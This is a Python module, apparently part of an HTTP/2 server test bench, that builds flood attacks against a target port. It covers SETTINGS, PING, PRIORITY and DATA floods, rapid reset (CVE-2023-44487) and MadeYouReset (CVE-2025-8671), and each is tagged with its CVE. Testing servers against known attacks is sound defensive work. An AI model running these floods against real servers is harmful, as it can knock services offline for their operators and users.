"""Floods of frames that are cheap to make: each alone is harmless, or nearly."""

from collections.abc import Callable, Iterator
from itertools import repeat

from bench.hostile import frames
from bench.hostile.attack import Attack, Ports, RunAttack, filled, flood
from bench.hostile.peer import Peer, opened

PRIORITY = frames.frame(frames.PRIORITY, 0, 3, frames.uint32(1) + b"\0")


def frame_flood(frame: bytes, path: str = "", reads: bool = True) -> RunAttack:
    """Repeat one frame; with `path` beside stream 1, which is open."""

    def run(target: Ports, seconds: float) -> str:
        peer = opened(target.port, 1, path)[0] if path else Peer(target.port)
        return flood(peer, repeat(filled(frame)), seconds, reads=reads)

    return run


def stream_flood(frames_of: Callable[[int], bytes], per_chunk: int = 64) -> RunAttack:
    """Repeat what `frames_of` makes for each new stream."""

    def chunks() -> Iterator[bytes]:
        stream = 1
        while True:
            yield b"".join(frames_of(number) for number in range(stream, stream + 2 * per_chunk, 2))
            stream += 2 * per_chunk

    return lambda target, seconds: flood(Peer(target.port), chunks(), seconds)


_STREAM = frames.block(frames.request_fields(frames.PUSH_STREAM))
_HEALTH = frames.block(frames.request_fields(frames.HEALTH))


def open_and_reset(stream: int) -> bytes:
    """A stream that its client resets at once."""
    return frames.frame(frames.HEADERS, frames.END_HEADERS, stream, _STREAM) + frames.rst_stream(stream)


def reset_by_window(stream: int) -> bytes:
    """A stream that the server must reset, because of a WINDOW_UPDATE of 0."""
    return frames.frame(frames.HEADERS, frames.END_HEADERS, stream, _STREAM) + frames.window_update(stream, 0)


def reset_by_data(stream: int) -> bytes:
    """A stream that the server must reset, because of DATA after its END_STREAM."""
    flags = frames.END_HEADERS | frames.END_STREAM
    return frames.frame(frames.HEADERS, flags, stream, _HEALTH) + frames.frame(frames.DATA, 0, stream, b"x")


def opened_only(stream: int) -> bytes:
    """A stream more, whether it is allowed or not."""
    return frames.frame(frames.HEADERS, frames.END_HEADERS, stream, _STREAM)


STREAM = frames.PUSH_STREAM
PADDING = frames.frame(frames.DATA, frames.PADDED, 1, b"\xff" + bytes(255))
ATTACKS = [
    Attack("SETTINGS", "flood", frame_flood(frames.settings()), "CVE-2019-9515"),
    Attack("SETTINGS, unread", "flood", frame_flood(frames.settings(), reads=False), "CVE-2019-9515"),
    Attack("SETTINGS ACK", "flood", frame_flood(frames.frame(frames.SETTINGS, frames.ACK, 0))),
    Attack("PING", "flood", frame_flood(frames.frame(frames.PING, 0, 0, bytes(8))), "CVE-2019-9512"),
    Attack("PING, unread", "flood", frame_flood(frames.frame(frames.PING, 0, 0, bytes(8)), reads=False)),
    Attack("PING ACK", "flood", frame_flood(frames.frame(frames.PING, frames.ACK, 0, bytes(8)))),
    Attack("PRIORITY", "flood", frame_flood(PRIORITY), "CVE-2019-9513"),
    Attack("unknown frames", "flood", frame_flood(frames.frame(frames.UNKNOWN, 0, 0))),
    Attack("GOAWAY", "flood", frame_flood(frames.frame(frames.GOAWAY, 0, 0, bytes(8)))),
    Attack("empty DATA", "flood", frame_flood(frames.frame(frames.DATA, 0, 1), STREAM), "CVE-2019-9518"),
    Attack("1-byte DATA", "flood", frame_flood(frames.frame(frames.DATA, 0, 1, b"\0"), STREAM), "CVE-2019-9511"),
    Attack("padding only", "flood", frame_flood(PADDING, STREAM)),
    Attack("RST_STREAM of one stream", "flood", frame_flood(frames.rst_stream(1), STREAM)),
    Attack("rapid reset", "flood", stream_flood(open_and_reset), "CVE-2023-44487"),
    Attack("MadeYouReset, window of 0", "flood", stream_flood(reset_by_window), "CVE-2025-8671"),
    Attack("MadeYouReset, DATA after the end", "flood", stream_flood(reset_by_data), "CVE-2025-8671"),
    Attack("streams above the limit", "flood", stream_flood(opened_only)),
]
